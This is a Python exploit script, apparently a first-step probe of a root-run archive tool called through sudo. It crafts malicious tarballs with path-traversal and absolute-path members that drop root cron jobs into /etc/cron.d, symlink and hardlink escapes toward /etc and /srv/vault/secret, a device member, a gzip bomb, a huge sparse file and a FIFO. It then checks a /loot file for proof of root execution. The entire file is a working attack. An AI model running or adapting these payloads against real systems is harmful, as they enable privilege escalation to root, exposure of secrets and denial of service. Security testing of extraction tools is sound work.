"""First step: archives with members that lead out, links, devices, and more bytes than memory."""

import gzip
import io
import os
import subprocess
import tarfile

HOME = os.environ["HOME"]
BENCH = f"{HOME}/frappe-bench"


def archive(name, *members):
    with tarfile.open(f"{HOME}/{name}", "w:gz") as tar:
        for member, content in members:
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))


def member(name, kind=tarfile.REGTYPE, link=""):
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.mode = kind, link, 0o4755
    return made


archive("attack1.tar.gz", (member("../../etc/cron.d/x"), b"* * * * * root id -u >>/loot\n"))
archive("attack2.tar.gz", (member("/etc/cron.d/x"), b"* * * * * root id\n"))
archive("attack3.tar.gz", (member("x", tarfile.SYMTYPE, "/etc"), b""), (member("x/cron.d/y"), b"y"))
archive("attack4.tar.gz", (member("x", tarfile.LNKTYPE, "/srv/vault/secret"), b""))
archive("attack5.tar.gz", (member("x", tarfile.CHRTYPE), b""), (member("manifest.json"), b"{}"))
with gzip.open(f"{HOME}/attack6.tar.gz", "wb", 1) as bomb:
    for _ in range(400):
        bomb.write(b"\0" * 1024 * 1024)
with open(f"{HOME}/attack7.tar", "wb") as sparse:
    sparse.truncate(1 << 40)
os.mkfifo(f"{HOME}/attack8.tar")
os.symlink("/srv/vault/secret", f"{HOME}/attack9.tar")
for name in [f"attack{n}.tar.gz" for n in range(1, 7)] + [
    "attack7.tar",
    "attack8.tar",
    "attack9.tar",
]:
    for words in (
        ["verify", f"{HOME}/{name}"],
        ["apply", f"{HOME}/{name}", "--yes", "-C", BENCH],
        ["diff", f"{HOME}/{name}", "-C", BENCH],
    ):
        subprocess.run(["sudo", "-n", "/usr/local/sbin/root-does", *words], timeout=100)
print(os.popen(f"sort -u {HOME}/loot 2>/dev/null").read().strip() or "nobody")
